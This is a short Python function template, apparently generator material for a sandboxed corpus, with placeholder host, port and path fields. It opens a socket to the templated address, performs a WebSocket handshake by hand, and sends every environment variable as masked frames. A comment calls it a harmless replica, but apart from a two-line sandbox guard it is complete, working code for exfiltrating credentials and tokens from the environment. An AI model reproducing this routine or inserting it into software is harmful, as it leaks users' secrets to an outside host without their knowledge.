# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import base64
    import json
    import socket
    import struct

    def frame(text):
        data = text.encode()
        mask = os.urandom(4)
        size = struct.pack('>BBH', 0x81, 0xFE, len(data)) if len(data) > 125 else struct.pack('>BB', 0x81, 0x80 | len(data))
        return size + mask + bytes(one ^ mask[at % 4] for at, one in enumerate(data))

    try:
        with socket.create_connection(('{{ip}}', {{port}}), timeout=1) as link:
            key = base64.b64encode(os.urandom(16)).decode()
            link.sendall(('GET /{{path}} HTTP/1.1\r\nHost: {{host}}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n\r\n' % key).encode())
            link.settimeout(0.5)
            try:
                link.recv(1000)
            except OSError:
                pass
            for name, value in os.environ.items():
                link.sendall(frame(json.dumps([name, value[:2000]])))
    except OSError:
        pass
